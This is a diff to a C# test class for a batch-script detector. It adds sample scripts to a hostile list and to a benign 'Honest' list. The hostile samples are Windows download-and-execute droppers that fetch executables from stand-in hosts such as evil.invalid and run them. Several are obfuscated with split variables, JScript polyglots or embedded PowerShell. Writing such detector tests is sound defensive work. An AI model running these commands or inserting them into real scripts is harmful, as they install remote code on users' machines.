@@ -48,6 +48,9 @@ public sealed class BatchTests
         "certutil -decode data.b64 p.exe\r\np.exe",
         "@echo off\r\ngoto start\r\n:two\r\n%x%%y% -o a.exe http://evil.invalid/a.exe\r\nstart a.exe\r\nexit /b\r\n:start\r\nset x=cu\r\nset y=rl\r\ngoto two",
         "call set c=%%comspec%%\r\nstart /min cmd /c \"curl http://evil.invalid/p.bat>p.bat&p.bat\"",
+        "powershell -NoP -Command \"(New-Object Net.WebClient).DownloadFile('http://203.0.113.7/x.zip','%TEMP%\\x.zip'); Expand-Archive -Path '%TEMP%\\x.zip' -DestinationPath '%TEMP%\\x' -Force\"\r\nstart \"\" \"%TEMP%\\x\\svc.exe\"\r\n",
+        "@echo off\r\ncall :dl http://evil.invalid/x.exe %TEMP%\\x.exe\r\nstart \"\" %TEMP%\\x.exe\r\nexit /b\r\n:dl\r\ncurl -s -o %2 %1\r\nexit /b\r\n",
+        "set out=%TEMP%\\%RANDOM%.exe\r\npowershell -c \"Invoke-WebRequest 'https://evil.invalid/x' -OutFile '%out%'\"\r\n\"%out%\"\r\n",
         "@if (@X)==(@Y) @end /* JScript\r\n@cscript //nologo //e:jscript \"%~f0\" & exit /b\r\n*/\r\nvar s=new ActiveXObject('WScript.Shell'); s.Run('cmd /c curl -o a.exe http://evil.invalid/a.exe && a.exe',0);",
         "powershell -c \"$c=gc '%~f0' -Raw; iex ($c -split '::PS')[-1]\"\r\nexit /b\r\n::PS\r\niex (irm http://evil.invalid/x)\r\n",
         "forfiles /p c:\\windows /m notepad.exe /c \"cmd /c curl -o %temp%\\a.exe http://evil.invalid/a.exe && %temp%\\a.exe\"",
@@ -55,6 +58,8 @@ public sealed class BatchTests
 
     public static TheoryData<string> Honest =>
     [
+        "@echo off\r\ncurl -L https://www.python.org/ftp/python/3.11.9/python-3.11.9-embed-amd64.zip -o python.zip\r\npowershell -Command \"Expand-Archive python.zip python_embeded\"\r\ncurl -sSL https://bootstrap.pypa.io/get-pip.py -o get-pip.py\r\npython_embeded\\python.exe get-pip.py\r\n",
+        "sc query postgresql >nul\r\ntasklist | find /i \"ollama.exe\" >nul || start \"\" ollama serve\r\nollama create m -f Modelfile\r\n",
         "@echo off\r\ncd /d %~dp0\r\nif not exist venv (\r\n    python -m venv venv\r\n)\r\ncall venv\\Scripts\\activate.bat\r\npip install -r requirements.txt\r\npython launch.py %*\r\npause\r\n",
         "@echo off\r\n\r\nset PYTHON=\r\nset GIT=\r\nset VENV_DIR=\r\nset COMMANDLINE_ARGS=--xformers --api\r\n\r\ncall webui.bat\r\n",
         "@echo off\r\n\r\nif not defined PYTHON (set PYTHON=python)\r\nif not defined VENV_DIR (set \"VENV_DIR=%~dp0%venv\")\r\nset ERROR_REPORTING=FALSE\r\nmkdir tmp 2>NUL\r\n%PYTHON% -c \"\" >tmp/stdout.txt 2>tmp/stderr.txt\r\nif %ERRORLEVEL% == 0 goto :check_pip\r\necho Couldn't launch python\r\ngoto :show_stdout_stderr\r\n:check_pip\r\n%PYTHON% -mpip --help >tmp/stdout.txt 2>tmp/stderr.txt\r\nif %ERRORLEVEL% == 0 goto :start_venv\r\n:start_venv\r\nfor /f \"delims=\" %%i in ('CALL %PYTHON% -c \"import sys; print(sys.executable)\"') do set PYTHON_FULLNAME=\"%%i\"\r\n%PYTHON_FULLNAME% -m venv \"%VENV_DIR%\" >tmp/stdout.txt 2>tmp/stderr.txt\r\n%PYTHON% launch.py %*\r\npause\r\nexit /b\r\n:show_stdout_stderr\r\nfor /f %%i in (\"tmp\\stdout.txt\") do set size=%%~zi\r\ntype tmp\\stdout.txt\r\npause\r\n",
